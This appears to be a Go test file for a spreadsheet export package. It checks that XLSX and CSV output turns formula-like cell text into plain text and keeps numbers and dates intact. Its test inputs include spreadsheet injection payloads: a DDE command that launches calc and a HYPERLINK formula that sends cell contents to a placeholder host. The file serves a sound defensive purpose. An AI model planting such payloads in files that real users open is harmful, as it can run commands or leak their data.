package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// dangerous are texts that a spreadsheet program would run if it were let.
var dangerous = []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "　=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x",
	`=HYPERLINK("http://x.example/?"&A1,"查看")`, "=cmd|' /C calc'!A0", "关于=的通知", "@", "=", "'=1"}

func dangerousTable() Table {
	t := Table{Name: "=危险/的*表", Notes: []string{"=1+1"}, Heads: []string{"=标题", "件数", "小时", "占比", "日期"}}
	for i, text := range dangerous {
		t.Rows = append(t.Rows, []any{text, i, 1.5, Share(0.25), Day(time.Date(2026, 8, 3, 0, 0, 0, 0, time.UTC))})
	}
	return t
}

// TestXLSXHoldsNoFormula reads the workbook back: every text is text, and none of it a formula.
func TestXLSXHoldsNoFormula(t *testing.T) {
	var b bytes.Buffer
	if err := dangerousTable().WriteXLSX(&b); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	sheet := book.GetSheetName(0)
	for i, text := range append([]string{"=1+1", "=标题"}, dangerous...) {
		at, _ := excelize.CoordinatesToCellName(1, i+1)
		formula, _ := book.GetCellFormula(sheet, at)
		kind, _ := book.GetCellType(sheet, at)
		value, err := book.GetCellValue(sheet, at)
		if want := withoutControls(text); err != nil || formula != "" || kind != excelize.CellTypeSharedString || value != want {
			t.Errorf("%q is %q of type %d with formula %q: %v", text, value, kind, formula, err)
		}
	}
}

// TestXLSXKeepsFiguresAndDays: what can be reckoned with is a number, what is a day is a day.
func TestXLSXKeepsFiguresAndDays(t *testing.T) {
	var b bytes.Buffer
	if err := dangerousTable().WriteXLSX(&b); err != nil {
		t.Fatal(err)
	}
	book, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	sheet := book.GetSheetName(0)
	if sheet != "=危险的表" {
		t.Errorf("the sheet is called %q", sheet)
	}
	for at, want := range map[string][2]string{"B4": {"1", "1"}, "C4": {"1.50", "1.5"}, "D4": {"25.00%", "0.25"}, "E4": {"2026-08-03", "46237"}} {
		shown, _ := book.GetCellValue(sheet, at)
		raw, _ := book.GetCellValue(sheet, at, excelize.Options{RawCellValue: true})
		kind, _ := book.GetCellType(sheet, at)
		if shown != want[0] || raw != want[1] || kind != excelize.CellTypeUnset && kind != excelize.CellTypeNumber {
			t.Errorf("%s shows %q, is %q, of type %d", at, shown, raw, kind)
		}
	}
}

// TestCSVHoldsNoFormula: no cell begins as a formula does.
func TestCSVHoldsNoFormula(t *testing.T) {
	var b bytes.Buffer
	if err := dangerousTable().WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\uFEFF"))).ReadAll()
	if err != nil || len(rows) != len(dangerous)+1 {
		t.Fatalf("%d rows: %v", len(rows), err)
	}
	for i, row := range rows {
		if first := strings.TrimLeft(row[0], " \n　"); first != "" && strings.ContainsRune("=+-@＝＋－＠\t\r", []rune(first)[0]) {
			t.Errorf("row %d begins with %q", i, row[0])
		}
		if i > 0 && (row[2] != "1.5" || row[3] != "0.2500" || row[4] != "2026-08-03") {
			t.Errorf("row %d: %q", i, row)
		}
	}
}
